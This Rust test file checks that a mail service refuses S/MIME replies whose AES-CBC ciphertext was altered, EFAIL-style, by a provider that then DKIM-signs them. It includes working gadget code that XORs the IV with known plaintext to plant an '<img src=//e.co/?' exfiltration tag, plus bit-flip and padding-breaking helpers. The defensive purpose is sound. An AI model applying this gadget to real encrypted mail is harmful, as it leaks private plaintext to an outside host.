//! EFAIL by the provider: it stores the person's answer in a cipher that notices no change, puts words of its own in, and
//! signs what comes out with the DKIM key of the mailbox's domain.

use cms::{content_info::ContentInfo, enveloped_data::EnvelopedData};
use der::{Any, Decode, Encode, asn1::OctetString};
use test_support::{dkim::Key, dns::Record};

use crate::reply::{
    person::body,
    talk::Talk,
    transport::{ALLOWED, NOT_AUTHORISED, talk},
    wire,
};

const SIGN_YOUR_REPLY: &str = "550 5.7.1 Please sign your reply: it is encrypted in a way that can be changed unnoticed \
                               (AES-CBC)";

/// How every answer of a mail client begins: what the provider knows of the plaintext.
const KNOWN: &[u8; 16] = b"Content-Type: mu";

/// A change of the ciphertext.
type Change = fn(&mut Vec<u8>, &[u8; 16]);

/// Puts 80 octets into the middle: each pair of blocks is one of nonsense, hidden in a comment, and one of the provider's
/// choice.
fn insert(ciphertext: &mut Vec<u8>, iv: &[u8; 16]) {
    let first: [u8; 16] = ciphertext[..16].try_into().unwrap();
    let mut gadget = Vec::new();
    let chosen: [&[u8; 16]; 2] = [b"><img src=\"//e.c", b"o/?             "];
    for chosen in chosen {
        gadget.extend(
            iv.iter()
                .zip(KNOWN)
                .zip(chosen)
                .map(|((iv, known), chosen)| iv ^ known ^ chosen),
        );
        gadget.extend_from_slice(&first);
    }
    gadget.extend_from_slice(&[0x55; 16]);
    assert_eq!(gadget.len(), 80);
    let middle = ciphertext.len() / 32 * 16;
    ciphertext.splice(middle..middle, gadget);
}

fn flip(ciphertext: &mut [u8]) {
    let middle = ciphertext.len() / 2;
    ciphertext[middle] ^= 1;
}

fn break_padding(ciphertext: &mut [u8]) {
    let before_the_last = ciphertext.len() - 17;
    ciphertext[before_the_last] ^= 0x55;
}

/// The entity with a changed ciphertext, every length around it put right.
fn changed(entity: &str, change: Change) -> String {
    let info = ContentInfo::from_der(&body(entity)).unwrap();
    let mut enveloped: EnvelopedData = info.content.decode_as().unwrap();
    let encrypted = &mut enveloped.encrypted_content;
    let iv: OctetString = encrypted
        .content_enc_alg
        .parameters
        .as_ref()
        .unwrap()
        .decode_as()
        .unwrap();
    let mut ciphertext = encrypted.encrypted_content.take().unwrap().into_bytes().into_vec();
    change(&mut ciphertext, iv.as_bytes().try_into().unwrap());
    encrypted.encrypted_content = Some(OctetString::new(ciphertext).unwrap());
    let content = Any::encode_from(&enveloped).unwrap();
    let info = ContentInfo {
        content_type: info.content_type,
        content,
    };
    wire::cms("smime-type=enveloped-data", &info.to_der().unwrap())
}

/// The person's signed and encrypted answer in HTML, which the provider holds back.
fn held_back(talk: &Talk) -> String {
    let html = format!(
        "Content-Type: text/html; charset=utf-8\r\n\r\n<p>the SECRET is below the oak</p>{}\r\n",
        "<p>all work and no play</p>\r\n".repeat(40)
    );
    talk.sealed("", "-aes-256-cbc", &html)
}

#[tokio::test]
async fn a_changed_answer_is_refused_though_the_provider_signs_it_with_dkim() {
    let key = Key::generate();
    let zone = [
        Record::Txt("s1._domainkey.example.org", &key.record),
        Record::Txt("example.org", ALLOWED),
    ];
    let (_dns, talk) = talk(&zone).await;
    let sign = |message: &str| key.sign(talk.home.folder.path(), "example.org", message, &[]);
    let answer = held_back(&talk);
    let changes: [(&str, Change); 3] = [
        ("insert", insert),
        ("flip", |ciphertext, _| flip(ciphertext)),
        ("padding", |ciphertext, _| break_padding(ciphertext)),
    ];
    for (id, change) in changes {
        let message = sign(&talk.to_bob(id, &changed(&answer, change)));
        let said = talk.says("ann@example.org", &message).await;
        assert_eq!(said, SIGN_YOUR_REPLY, "{id}: one answer, deciphered or not");
    }
    // Ann's own answer without a signature cannot be told from it.
    let note = wire::note("unsigned");
    for cipher in ["-aes-256-cbc", "-aes-128-cbc", "-des3"] {
        let malleable = talk.person.encrypt(cipher, &talk.letter.certificate, &note);
        let said = talk
            .says("ann@example.org", &sign(&talk.to_bob("unsigned", &malleable)))
            .await;
        assert_eq!(said, SIGN_YOUR_REPLY, "{cipher}");
        let said = talk
            .says("eve@elsewhere.example", &talk.to_bob("unsigned", &malleable))
            .await;
        assert_eq!(said, NOT_AUTHORISED, "{cipher}: a stranger learns nothing");
    }
    let said = talk
        .says("ann@example.org", &sign(&talk.to_bob("genuine", &answer)))
        .await;
    assert!(said.starts_with("250 "), "{said}");
}
